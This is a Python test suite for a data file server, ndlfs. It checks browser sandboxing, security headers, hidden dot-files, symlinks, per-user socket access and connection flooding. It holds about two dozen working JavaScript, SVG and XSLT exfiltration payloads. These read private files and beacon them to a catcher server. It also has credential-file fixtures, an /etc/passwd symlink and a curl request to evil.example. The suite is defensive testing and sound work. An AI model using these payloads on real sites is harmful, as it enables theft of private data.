# SPDX-License-Identifier: MIT
"""ndlfs serve on a network: which clients are let in, what a page out of the source can do in a browser, links, and the fields of answers."""
import contextlib
import http.server
import json
import os
import pwd
import re
import resource
import shutil
import socket
import subprocess
import sys
import threading
import urllib.parse

import harness
import numpy as np
import serve_test

SECRET = "UNPUBLISHED 42"
CHROMIUM = shutil.which("chromium")
FLAGS = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync")
CLIENT = "import socket, sys; c = socket.socket(socket.AF_UNIX); c.settimeout(60); c.connect(sys.argv[1]); " \
         "c.sendall(f'GET {sys.argv[2]} HTTP/1.0\\r\\n\\r\\n'.encode()); " \
         "sys.stdout.buffer.write(b''.join(iter(lambda: c.recv(65536), b'')))"

# Each is the body of an async function of a page out of the source; what it passes to leak() goes to another server.
WAYS = {
    "fetch": "leak(await (await fetch(FILE)).text())",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', FILE, false); x.send(); leak(x.responseText)",
    "canvas": "const i = new Image(); i.src = PICTURE; await i.decode(); const c = document.createElement('canvas'); "
              "c.width = c.height = 9; c.getContext('2d').drawImage(i, 0, 0); leak(c.toDataURL())",
    "bitmap": "const b = await createImageBitmap(await (await fetch(PICTURE)).blob()); leak(b.width + SECRETLY)",
    "popup": "const w = open(FILE); await sleep(); leak(w.document.body.innerText)",
    "frame": "const f = add('iframe', {src: FILE}); await sleep(); leak(f.contentDocument.body.innerText)",
    "object": "const f = add('object', {data: FILE, type: 'text/plain'}); await sleep(); leak(f.contentDocument.body.innerText)",
    "embed": "const f = add('embed', {src: FILE, type: 'text/plain'}); await sleep(); leak(f.getSVGDocument().body.innerText)",
    "srcdoc": "add('iframe', {srcdoc: '<script>fetch(\"' + FILE + '\").then(r => r.text()).then(t => parent.leak(t))</' + 'script>'});"
              "await sleep()",
    "worker": "const w = new Worker('w.js'); leak(await new Promise(ok => w.onmessage = e => ok(e.data)))",
    "shared_worker": "const w = new SharedWorker('w.js'); leak(await new Promise(ok => w.port.onmessage = e => ok(e.data)))",
    "blob_worker": "const w = new Worker(URL.createObjectURL(new Blob([`fetch('${location.origin}${FILE}').then(r => r.text())"
                   ".then(t => postMessage(t))`]))); leak(await new Promise(ok => w.onmessage = e => ok(e.data)))",
    "service_worker": "await navigator.serviceWorker.register('w.js'); leak('registered' + SECRETLY)",
    "module": "leak((await import('/private/m.js')).text)",
    "script": "add('script', {src: '/private/s.js'}); await sleep(); leak(window.text)",
    "style": "add('link', {rel: 'stylesheet', href: '/private/c.css'}); await sleep(); "
             "leak(getComputedStyle(document.body).getPropertyValue('--text'))",
    "font": "await new FontFace('f', `url(${FILE})`).load().catch(() => 0); await (await fetch(FILE)).text().then(leak)",
    "form": "const f = add('form', {action: CATCHER + '/leak', method: 'get'}); f.innerHTML = '<input name=d>'; "
            "f.d.value = await (await fetch(FILE)).text(); f.submit()",
    "event_source": "const e = new EventSource('/private/e.txt'); leak(await new Promise(ok => e.onmessage = m => ok(m.data)))",
    "cache": "const c = await caches.open('x'); await c.add(FILE); leak(await (await c.match(FILE)).text())",
    "beacon": "navigator.sendBeacon(CATCHER + '/leak?d=' + encodeURIComponent(await (await fetch(FILE)).text()))",
    "import_map": "const m = document.createElement('script'); m.type = 'importmap'; "
                  "m.textContent = '{\"imports\": {\"x\": \"/private/m.js\"}}'; document.head.append(m); leak((await import('x')).text)",
    "cookie": "document.cookie = 'x=y'; localStorage.x = 'y'; leak(document.cookie + localStorage.x + SECRETLY)",
}
PAGE = """<!doctype html><meta charset=utf-8><title>data</title><body><h1>About this data</h1><script>
const CATCHER = "{catcher}", FILE = "/private/results.txt", PICTURE = "/private/p.npy/preview.png", SECRETLY = "{secret}";
const sleep = () => new Promise(ok => setTimeout(ok, 1500));
function leak(text) {{ new Image().src = CATCHER + "/leak?way={way}&d=" + encodeURIComponent(text); }}
function add(name, attributes) {{ const e = document.createElement(name); Object.assign(e, attributes);
  document.body.append(e); return e; }}
(async () => {{ {code} }})().catch(() => 0);
</script>"""
# Where a page of another site opens every page of the source, and tries by itself.
DRIVER = """<!doctype html><body><script>
const SERVER = "{server}", PAGES = {pages};
const sleep = time => new Promise(ok => setTimeout(ok, time));
const leak = (way, text) => fetch("/leak?way=" + way + "&d=" + encodeURIComponent(text));
(async () => {{
  const opened = [];
  for (const page of PAGES) opened.push(open(SERVER + "/attack/" + page));
  window.text = "";
  for (const [name, key] of [["script", "src"], ["img", "src"], ["iframe", "src"]]) {{
    const e = document.createElement(name); e[key] = SERVER + (name == "script" ? "/private/s.js" : "/private/p.npy/preview.png");
    document.body.append(e);
    e.onload = () => {{ if (name == "img") leak("other_site_img", e.naturalWidth + "{secret}"); }};
  }}
  const own = open(SERVER + "/private/");
  try {{ leak("other_site_fetch", await (await fetch(SERVER + "/private/results.txt")).text()); }} catch {{ }}
  await sleep({wait});
  if (window.text) leak("other_site_script", window.text);
  try {{ leak("other_site_popup", own.document.body.innerText); }} catch {{ }}
  for (const w of opened) try {{ leak("other_site_window", w.document.body.innerText); }} catch {{ }}
  await sleep(500); await fetch("/done");
}})();
</script>"""


class Catcher(http.server.ThreadingHTTPServer):
    """Another site: it has the driver, and takes what leaks."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), CatcherHandler)
        self.leaks, self.done, self.page = {}, threading.Event(), ""
        self.url = f"http://localhost:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


class CatcherHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        parts = urllib.parse.urlsplit(self.path)
        asked = urllib.parse.parse_qs(parts.query)
        if parts.path == "/leak":
            self.server.leaks.setdefault(asked.get("way", ["form"])[0], asked.get("d", [""])[0])
        if parts.path == "/done":
            self.server.done.set()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.server.page.encode() if parts.path == "/" else b"")

    do_POST = do_GET

    def log_message(self, *_):
        pass


def write_attack(source, catcher):
    """A source with something private, and pages that try to read it. Returns the names of the pages."""
    for name, text in {"results.txt": SECRET, "m.js": f"export const text = '{SECRET}';", "s.js": f"var text = '{SECRET}';",
                       "c.css": f":root {{ --text: '{SECRET}' }}", "e.txt": f"data: {SECRET}\n\n",
                       "x.xml": f"<x>{SECRET}</x>"}.items():
        harness.write(os.path.join(source, "private", name), text)
    np.save(os.path.join(source, "private", "p.npy"), np.arange(64. * 64).reshape(64, 64))
    attack = os.path.join(source, "attack")
    for way, code in WAYS.items():
        harness.write(os.path.join(attack, way + ".html"), PAGE.format(catcher=catcher, secret=SECRET, way=way, code=code))
    harness.write(os.path.join(attack, "w.js"),
                  "onconnect = e => go(m => e.ports[0].postMessage(m)); go(m => self.postMessage && self.postMessage(m));\n"
                  "function go(post) { fetch('/private/results.txt').then(r => r.text()).then(post, () => 0); }")
    harness.write(os.path.join(attack, "svg.svg"),
                  f'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/private/results.txt").then(r => r.text()).then(t => '
                  f'{{ new Image().src = "{catcher}/leak?way=svg&amp;d=" + encodeURIComponent(t); }})</script></svg>')
    harness.write(os.path.join(attack, "xslt.xml"), '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="xslt.xsl.xml"?><a/>')
    harness.write(os.path.join(attack, "xslt.xsl.xml"),
                  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
                  f'<html><body><img src="{catcher}/leak?way=xslt&amp;d={{document(\'/private/x.xml\')/x}}"/></body></html>'
                  "</xsl:template></xsl:stylesheet>")
    harness.write(os.path.join(attack, "page.xhtml"),
                  f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>location = "{catcher}/leak?way=xhtml&amp;d={SECRET}";'
                  "</script></body></html>")
    return [f"{way}.html" for way in WAYS] + ["svg.svg", "xslt.xml", "page.xhtml"]


class BrowserTest(serve_test.ServeCase):
    """What a browser lets a page out of the source do. Needs Chromium, which no other test does."""

    def setUp(self):
        super().setUp()
        if CHROMIUM is None:
            print("NOT TESTED: what browsers do with pages of the source (no chromium)", file=sys.stderr)
            self.skipTest("chromium is not installed")

    def leaks(self, *options):
        catcher = Catcher()
        self.addCleanup(catcher.server_close)
        self.addCleanup(catcher.shutdown)
        pages = write_attack(self.source, catcher.url)
        server = self.serve(*options)
        catcher.page = DRIVER.format(server=server.url.rstrip("/"), pages=json.dumps(pages), secret=SECRET, wait=12000)
        profile = os.path.join(self.scratch, "profile" + "".join(options))
        browser = subprocess.Popen(
            [CHROMIUM, *FLAGS, "--disable-popup-blocking", f"--user-data-dir={profile}", "--remote-debugging-port=0", catcher.url + "/"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            self.assertTrue(catcher.done.wait(180), "the browser has not come to the end")
        finally:
            os.killpg(browser.pid, 9)
            browser.wait()
        return {way: text for way, text in catcher.leaks.items() if SECRET in text or way == "canvas"}

    def test_pages_of_the_source_read_nothing(self):
        self.assertEqual(self.leaks(), {})

    def test_pages_of_ndlfs_work(self):
        """Their own style and script pass their policy."""
        server = self.serve()
        for path in "/s.zarr/a/", "/s.zarr/index.html":
            page = subprocess.run([CHROMIUM, *FLAGS, f"--user-data-dir={self.scratch}/own", "--enable-logging=stderr", "--dump-dom",
                                   server.url.rstrip("/") + path], capture_output=True, text=True, timeout=harness.DEADLINE, check=True)
            self.assertNotIn("Content Security Policy", page.stderr)
            if path.endswith("/"):
                self.assertIn('placeholder="Search this page"', page.stdout)

    def test_the_attacks_work_where_pages_are_trusted(self):
        leaks = self.leaks("--trust-pages")
        self.assertGreaterEqual(len(set(leaks) & {*WAYS, "svg", "xslt"}), 16, leaks)
        self.assertEqual([way for way in leaks if way.startswith("other_site")], [])


class FieldsTest(serve_test.ServeCase):
    ALL = "X-Content-Type-Options", "Content-Security-Policy", "Cross-Origin-Resource-Policy", "Referrer-Policy"

    def paths(self, server, folder="/"):
        yield folder
        for entry in json.loads(server.get(folder + "?format=json")):
            path = folder + urllib.parse.quote(entry["name"])
            if entry["type"] == "directory":
                yield from self.paths(server, path + "/")
            else:
                yield path

    def test_head_has_the_fields_of_get_for_every_view(self):
        server = self.enterContext(serve_test.Server(harness.DATA, "--revalidate", "60"))
        paths = [path for path in self.paths(server) if not path.startswith("/.ndlfs")]
        stores = [path[:-1] for path in paths if re.fullmatch(r"/[^/]+\.[a-z0-9]+/", path)]
        self.assertGreater(len(stores), 1)
        unlisted = [store + end for store in stores for end in (".dds", ".das", ".dmr", "/index.html", "?format=json", "/?q=x", "")]
        self.assertGreater(len(paths), 100)
        for path in paths + unlisted:
            with self.subTest(path):
                got_status, got, body = server.ask(path)
                status, fields, nothing = server.ask(path, "HEAD")
                self.assertEqual((status, nothing), (got_status, b""))
                if "Transfer-Encoding" not in got:
                    self.assertEqual(int(got["Content-Length"]), len(body))
                for one in got, fields:
                    del one["Date"]
                self.assertEqual(sorted(fields.items()), sorted(got.items()))
                for name in self.ALL:
                    self.assertIn(name, fields)
                self.assertIn(status, (200, 301, 307, 404))
                policy = fields["Content-Security-Policy"]
                is_page = "text/html" in fields.get("Content-Type", "")
                self.assertEqual("sandbox" in policy, not is_page)
                self.assertNotIn("unsafe", policy)
                if status == 200 and not path.startswith("/.ndlfs"):
                    self.assertIn(fields["Cache-Control"], ("max-age=60", "no-store"))

    def test_pages_of_the_source_are_no_pages(self):
        for name in "a.html", "A.HTM", "a.svg", "a.xml", "a.js", "a.pdf", "a.xhtml", "index.html", "a.vrt":
            harness.write(self.path("dir", name), "<script>alert(1)</script>")
        server = self.serve()
        for name in os.listdir(self.path("dir")):
            _, fields, _ = server.ask("/dir/" + urllib.parse.quote(name))
            is_text = fields["Content-Type"] in ("text/plain; charset=utf-8", "application/octet-stream")
            self.assertTrue(is_text or fields["Content-Disposition"] == "attachment", name)
            self.assertIn("sandbox; default-src 'none'", fields["Content-Security-Policy"])
        self.assertIn("text/html", server.ask("/s.zarr/index.html")[1]["Content-Type"])
        trusting = self.serve("--trust-pages")
        self.assertIn("text/html", trusting.ask("/dir/a.html")[1]["Content-Type"])
        self.assertIsNone(trusting.ask("/dir/a.html")[1]["Content-Security-Policy"])

    def test_caching_follows_the_options(self):
        for options, field in (((), "max-age=1"), (("--revalidate", "0"), "no-cache"), (("--revalidate", "60"), "max-age=60"),
                               (("--immutable",), "max-age=31536000, immutable"),
                               (("--immutable", "--token", "0123456789"), "private, max-age=31536000, immutable")):
            server = self.serve(*options)
            _, fields, _ = server.ask("/s.zarr/a/data.raw", Authorization="Bearer 0123456789")
            self.assertEqual(fields["Cache-Control"], field, options)


class DotFilesTest(serve_test.ServeCase):
    def setUp(self):
        super().setUp()
        for name in (".ssh/id", ".netrc", "dir/.hidden", ".x.zarr/.zgroup"):
            harness.write(self.path(*name.split("/")), '{"zarr_format": 2}')
        os.symlink(".ssh", self.path("link"))

    def test_dot_files_are_served_on_demand_only(self):
        closed = self.enterContext(serve_test.Server(self.source, "--no-token", "--s3", "tree", closed=True))
        for path in ("/.ssh/id", "/.ssh/", "/.netrc", "/dir/.hidden", "/.x.zarr/", "/.ndlfs/", "/.ndlfs/config.yaml", "/link/id",
                     "/.ndlfs/source/.netrc", "/.x.zarr.dds", "/tree/.netrc", "/%2essh/id"):
            self.assertEqual(closed.ask(path)[0], 404, path)
        for path in ("/", "/?format=json", "/dir/", "/index.html", "/?q=id", "/?q=hidden", "/tree?list-type=2"):
            for name in (".ssh", ".netrc", ".hidden", ".x.zarr", ".ndlfs"):
                self.assertNotIn(f"{name}<", closed.get(path).decode().replace('"', "<"), path)
        # Names inside of stores are those of the format.
        self.assertEqual(closed.ask("/s.zarr/a/.ndl.yaml")[0], 200)
        self.assertEqual(closed.ask("/s.zarr/a/data.zarr2/.zarray")[0], 200)
        # The originals of stores are data, too.
        np.save(self.path("x.npy"), serve_test.VALUES)
        for path, original in (("/.ndlfs/source/s.zarr/.zgroup", ("s.zarr", ".zgroup")), ("/.ndlfs/source/x.npy", ("x.npy",))):
            self.assertEqual(closed.get(path), harness.read(self.path(*original)))
        self.assertEqual(closed.ask("/x.npy/.source")[1]["Location"], "../.ndlfs/source/x.npy")
        opened = self.serve()
        for path in "/.ssh/id", "/.ndlfs/config.yaml", "/.x.zarr/", "/.ndlfs/source/.netrc":
            self.assertEqual(opened.ask(path)[0], 200, path)


class LinksTest(serve_test.ServeCase):
    def setUp(self):
        super().setUp()
        os.symlink(".", self.path("self"))
        os.symlink("..", self.path("dir", "up"))
        os.symlink("s.zarr", self.path("latest.zarr"))
        os.symlink("loop", self.path("loop"))
        os.symlink("/etc/passwd", self.path("out"))

    def test_links_are_redirects(self):
        server = self.serve()
        for path, place in (("/self/", "../"), ("/self", "./"), ("/self/self/self/dir/", "../../../../dir/"),
                            ("/latest.zarr/a/data.raw", "../../s.zarr/a/data.raw"), ("/dir/up/dir/", "../../../dir/")):
            status, fields, _ = server.ask(path)
            self.assertEqual((status, fields["Location"]), (307, place), path)
        for path in "/loop", "/loop/x", "/out", "/self/loop":
            self.assertEqual(server.ask(path)[0], 404, path)

    def test_no_crawler_walks_for_ever(self):
        server = self.serve("--s3", "tree")
        listed = server.get("/tree?list-type=2").decode()
        self.assertNotIn("self/", listed)
        self.assertIn("s.zarr/a/data.npy", listed)
        self.assertIn("<IsTruncated>false<", listed)
        self.assertNotIn('"self"', server.get("/?format=json").decode())
        self.assertNotIn(b"/self", server.ask("/", "PROPFIND", Depth="1")[2])
        folder = os.path.join(self.scratch, "wget")
        subprocess.run(["wget", "-q", "-r", "-np", "-l", "inf", "-P", folder, "-A", "*.txt", server.url],
                       timeout=harness.DEADLINE, check=False)
        self.assertFalse([name for name, _, _ in os.walk(folder) if "self/self" in name])

    def test_programs_of_dap_follow_links(self):
        server = self.serve()
        self.assertEqual(server.get("/latest.zarr.dds"), server.get("/s.zarr.dds").replace(b"} s", b"} s"))


class PeerTest(serve_test.ServeCase):
    """A Unix socket, where the kernel names the user of each client."""

    def setUp(self):
        super().setUp()
        if os.geteuid() != 0:
            self.skipTest("only root serves other users with their rights")
        self.nobody = pwd.getpwnam("nobody")
        for folder in (self.scratch, self.source):
            os.chmod(folder, 0o755)
        harness.write(self.path("closed", "x.txt"), SECRET)
        os.chmod(self.path("closed"), 0o700)
        harness.write(self.path("mine.txt"), SECRET)
        os.chmod(self.path("mine.txt"), 0o600)

    def ask_as(self, path, url, user=True):
        identity = {"user": self.nobody.pw_uid, "group": self.nobody.pw_gid, "extra_groups": []} if user else {}
        got = subprocess.run([sys.executable, "-c", CLIENT, path, url], capture_output=True, timeout=harness.DEADLINE, **identity)
        self.assertEqual(got.returncode, 0, got.stderr)
        head, _, body = got.stdout.partition(b"\r\n\r\n")
        return int(head.split()[1]), body

    def test_each_user_sees_what_he_may_read(self):
        path = os.path.join(self.scratch, "socket")
        with serve_test.Server(self.source, "--allow-other", listens=("--socket", path), closed=True):
            self.assertEqual(os.stat(path).st_mode & 0o777, 0o666)
            for _ in range(2):  # what was found for one user is shown to no other
                self.assertEqual(self.ask_as(path, "/mine.txt", user=False), (200, SECRET.encode()))
                self.assertEqual(self.ask_as(path, "/mine.txt")[0], 403)
                self.assertEqual(self.ask_as(path, "/closed/x.txt", user=False)[0], 200)
                self.assertIn(self.ask_as(path, "/closed/x.txt")[0], (403, 404))
                self.assertEqual(self.ask_as(path, "/s.zarr/a/data.raw"), (200, serve_test.VALUES.tobytes()))

    def test_socket_has_its_mode(self):
        path = os.path.join(self.scratch, "socket")
        with serve_test.Server(self.source, "--socket-mode", "660", listens=("--socket", path), closed=True):
            self.assertEqual(os.stat(path).st_mode & 0o777, 0o660)
            # Pages reach it through `ssh -L`.
            got = subprocess.run(["curl", "-s", "--unix-socket", path, "-o", "/dev/null", "-w", "%{http_code}", "http://evil.example/"],
                                 capture_output=True, timeout=harness.DEADLINE)
            self.assertEqual(got.stdout, b"421")

    def test_server_becomes_another_user(self):
        with serve_test.Server(self.source, "--as-user", "nobody", "--no-token", closed=True) as server:
            self.assertEqual(server.ask("/mine.txt")[0], 403)
            self.assertEqual(server.ask("/s.zarr/a/data.raw")[2], serve_test.VALUES.tobytes())
            with open(f"/proc/{server.process.pid}/status", encoding="utf-8") as status:
                self.assertEqual(set(re.search(r"Uid:(.*)", status.read())[1].split()), {str(self.nobody.pw_uid)})


class ProxyTest(serve_test.ServeCase):
    TOKEN = "0123456789"

    def test_only_named_proxies_are_believed(self):
        for options, is_secure in (((), False), (("--proxy", "127.0.0.0/8"), True), (("--proxy", "10.0.0.1"), False)):
            server = self.serve("--token", self.TOKEN, *options)
            cookie = server.ask(f"/?token={self.TOKEN}", X_Forwarded_Proto="https")[1]["Set-Cookie"]
            self.assertEqual((cookie.startswith("__Host-"), "; Secure" in cookie), (is_secure, is_secure), options)
            # Guesses of one client do not slow down another one.
            for _ in range(100):
                server.ask("/?token=wrong", X_Forwarded_For="192.0.2.1, 127.0.0.1")
            statuses = [server.ask("/", Authorization=f"Bearer {self.TOKEN}", X_Forwarded_For=address)[0]
                        for address in ("192.0.2.1", "192.0.2.2")]
            self.assertEqual(statuses, [429, 200] if is_secure else [429, 429])


class CrowdTest(serve_test.ServeCase):
    def setUp(self):
        super().setUp()
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(8192, hard), hard))

    def test_many_connections_leave_room_for_others(self):
        """5,000 connections from 20 addresses: another client is served at once."""
        server = self.serve()
        with contextlib.ExitStack() as stack:
            for number in range(5000):
                client = stack.enter_context(socket.socket())
                client.settimeout(harness.DEADLINE)
                client.bind((f"127.0.0.{2 + number % 20}", 0))
                with contextlib.suppress(OSError):
                    client.connect(("127.0.0.1", server.port))
                    client.sendall((b"", b"GET / HT", b"GET /s.zarr/a/data.raw HTTP/1.1\r\nHost: localhost\r\n\r\n")[number % 3])
            for _ in range(40):
                self.assertEqual(server.ask("/s.zarr/a/data.raw", Range="bytes=0-9")[0], 206)
            self.assertLess(len(os.listdir(f"/proc/{server.process.pid}/fd")), 4096 + 500)


if __name__ == "__main__":
    harness.main()
